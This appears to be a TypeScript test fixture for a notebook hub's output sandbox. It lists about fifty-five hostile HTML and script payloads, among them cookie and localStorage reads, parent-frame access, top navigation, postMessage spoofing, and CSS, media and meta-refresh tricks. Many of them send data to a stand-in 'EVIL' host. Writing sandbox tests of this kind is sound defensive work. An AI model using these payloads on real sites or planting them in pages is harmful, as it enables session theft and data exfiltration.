/**
 * Things that a hostile notebook would try. Each is the HTML of one output. `HUB` stands for the hub's own
 * address, `EVIL` for a stranger's, `NAME` for the attack's name. A request to a path with `/stolen/` means that
 * it worked; so does every mark that {@link CLAIM} leaves.
 */
export type Attack = { readonly name: string; readonly html: string };

/** Tells whoever listens that something was reached which must not be. */
const CLAIM = `(what) => {
  document.documentElement.dataset.claimed = what;
  fetch('EVIL/stolen/NAME?' + encodeURIComponent(what)).catch(() => {});
  new Image().src = 'EVIL/stolen/NAME?' + encodeURIComponent(what);
}`;

function script(name: string, body: string): Attack {
  return { name, html: `<p>${name}</p><script>(async () => { const claim = ${CLAIM}; ${body} })()</script>` };
}

export const ATTACKS: readonly Attack[] = [
  script('read-cookie', `if (document.cookie) claim(document.cookie)`),
  script('set-cookie', `document.cookie = 'planted=1; path=/'; if (document.cookie) claim(document.cookie)`),
  script('parent-document', `claim(parent.document.title)`),
  script('top-document', `claim(top.document.body.innerHTML)`),
  script(
    'sibling-frame',
    `for (let i = 0; i < parent.frames.length; i++) { if (parent.frames[i] !== window) claim(parent.frames[i].document.title) }`,
  ),
  script('frame-element', `if (window.frameElement) claim('frameElement')`),
  script('local-storage', `claim(localStorage.getItem('token') ?? 'storage')`),
  script('session-storage', `claim(String(sessionStorage.length))`),
  script('indexed-db', `indexedDB.open('x').onsuccess = () => claim('indexedDB')`),
  script('cache-storage', `await caches.open('x'); claim('caches')`),
  script('top-navigation', `top.location = 'EVIL/stolen/NAME'`),
  script('parent-navigation', `parent.location.href = 'EVIL/stolen/NAME'`),
  script('own-navigation', `location.href = 'EVIL/stolen/NAME'`),
  script('own-navigation-to-hub', `location.href = 'HUB/stolen/NAME'`),
  script(
    'fetch-hub',
    `const r = await fetch('HUB/stolen/NAME', { credentials: 'include' }); claim(await r.text())`,
  ),
  script(
    'fetch-relative',
    `const r = await fetch('/stolen/NAME', { credentials: 'include' }); claim(await r.text())`,
  ),
  script('fetch-stranger', `await fetch('EVIL/stolen/NAME', { mode: 'no-cors' })`),
  script(
    'xhr',
    `const x = new XMLHttpRequest(); x.open('POST', 'HUB/stolen/NAME'); x.withCredentials = true; x.onload = () => claim(x.responseText); x.send('x')`,
  ),
  script('beacon', `navigator.sendBeacon('HUB/stolen/NAME', 'x')`),
  script('event-source', `new EventSource('HUB/stolen/NAME').onopen = () => claim('open')`),
  script('web-socket', `new WebSocket('HUB/stolen/NAME'.replace('http', 'ws')).onopen = () => claim('open')`),
  script('image', `new Image().src = 'EVIL/stolen/NAME'`),
  script('module-import', `await import('HUB/stolen/NAME')`),
  script(
    'script-tag',
    `const s = document.createElement('script'); s.src = 'HUB/stolen/NAME'; document.head.append(s)`,
  ),
  script('shared-worker', `new SharedWorker('HUB/stolen/NAME')`),
  script(
    'worker',
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('HUB/stolen/NAME')"]))); w.onmessage = () => claim('worker')`,
  ),
  script('service-worker', `await navigator.serviceWorker.register('HUB/stolen/NAME'); claim('registered')`),
  script('window-open', `const w = window.open('EVIL/stolen/NAME'); if (w) claim('opened')`),
  script('modal-dialogs', `alert('x'); if (prompt('password?')) claim('prompt')`),
  script(
    'form-post',
    `const f = document.createElement('form'); f.method = 'post'; f.action = 'HUB/stolen/NAME'; document.body.append(f); f.submit()`,
  ),
  script(
    'form-to-top',
    `const f = document.createElement('form'); f.method = 'post'; f.target = '_top'; f.action = 'EVIL/stolen/NAME'; document.body.append(f); f.requestSubmit()`,
  ),
  script(
    'link-to-top',
    `const a = document.createElement('a'); a.href = 'EVIL/stolen/NAME'; a.target = '_top'; document.body.append(a); a.click()`,
  ),
  script(
    'link-to-blank',
    `const a = document.createElement('a'); a.href = 'EVIL/stolen/NAME'; a.target = '_blank'; document.body.append(a); HTMLElement.prototype.click.call(a)`,
  ),
  script(
    'javascript-link',
    `const a = document.createElement('a'); a.href = "javascript:parent.document.title='owned'"; a.target = '_parent'; document.body.append(a); a.click()`,
  ),
  script(
    'download',
    `const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; HTMLElement.prototype.click.call(a)`,
  ),
  script(
    'nested-blank-realm',
    `const f = document.createElement('iframe'); document.body.append(f); const r = await f.contentWindow.fetch('HUB/stolen/NAME', { credentials: 'include' }); claim(await r.text())`,
  ),
  script('spoof-greeting', `parent.postMessage({ quire: 'output-frame', version: 1, type: 'hello' }, '*')`),
  script(
    'spoof-protocol',
    `for (const type of ['open-link', 'save-file', 'zoom-image', 'height', '__proto__', 'constructor']) parent.postMessage({ quire: 'output-frame', version: 1, type, href: 'EVIL/stolen/NAME', height: 1e9 }, '*')`,
  ),
  script(
    'spoof-siblings',
    `for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage({ quire: 'output-frame', version: 1, type: 'init' }, '*', [new MessageChannel().port1])`,
  ),
  script(
    'prefetch',
    `for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'stylesheet', 'manifest', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = 'EVIL/stolen/NAME'; document.head.append(l) }`,
  ),
  script(
    'speculation-rules',
    `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['HUB/stolen/NAME'] }] }); document.head.append(s)`,
  ),
  script(
    'reporting',
    `const m = document.createElement('meta'); m.httpEquiv = 'content-security-policy'; m.content = "img-src 'none'; report-uri EVIL/stolen/NAME"; document.head.append(m); new Image().src = 'data:image/png;base64,AA=='`,
  ),
  script(
    'remove-own-policy',
    `document.querySelector('meta[http-equiv]').remove(); await fetch('EVIL/stolen/NAME', { mode: 'no-cors' })`,
  ),
  { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=EVIL/stolen/NAME">` },
  { name: 'base-tag', html: `<base href="EVIL/stolen/NAME/"><img src="x.png"><script src="y.js"></script>` },
  {
    name: 'svg-script',
    html: `<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL/stolen/NAME"/><script>parent.document.title='owned'</script></svg>`,
  },
  {
    name: 'nested-frame',
    html: `<iframe src="HUB/stolen/NAME"></iframe><iframe srcdoc="<script>fetch('HUB/stolen/NAME',{credentials:'include'});parent.parent.document.title='owned'</script>"></iframe>`,
  },
  {
    name: 'data-frame',
    html: `<iframe src="data:text/html,<script>fetch('EVIL/stolen/NAME',{mode:'no-cors'})</script>"></iframe>`,
  },
  { name: 'object-embed', html: `<object data="HUB/stolen/NAME"></object><embed src="HUB/stolen/NAME">` },
  {
    name: 'css-background',
    html: `<style>p { background: url(EVIL/stolen/NAME) } @import 'EVIL/stolen/NAME'; @font-face { font-family: x; src: url(EVIL/stolen/NAME) } p { font-family: x }</style><p style="background: url('EVIL/stolen/NAME')">styled</p>`,
  },
  {
    name: 'media',
    html: `<video autoplay src="EVIL/stolen/NAME"></video><audio src="EVIL/stolen/NAME"></audio><video poster="EVIL/stolen/NAME"></video>`,
  },
  {
    name: 'image-set',
    html: `<img src="EVIL/stolen/NAME"><img srcset="EVIL/stolen/NAME 1x"><input type="image" src="EVIL/stolen/NAME">`,
  },
  {
    name: 'ping',
    html: `<a id="p" href="#x" ping="EVIL/stolen/NAME">x</a><script>document.getElementById('p').click()</script>`,
  },
  {
    name: 'handler',
    html: `<img src="x" onerror="fetch('HUB/stolen/NAME',{credentials:'include'}); parent.document.title='owned'">`,
  },
];

/** Fills in the addresses. */
export function aim(attack: Attack, addresses: { readonly hub: string; readonly stranger: string }): string {
  return attack.html
    .replaceAll('HUB', addresses.hub)
    .replaceAll('EVIL', addresses.stranger)
    .replaceAll('NAME', attack.name);
}
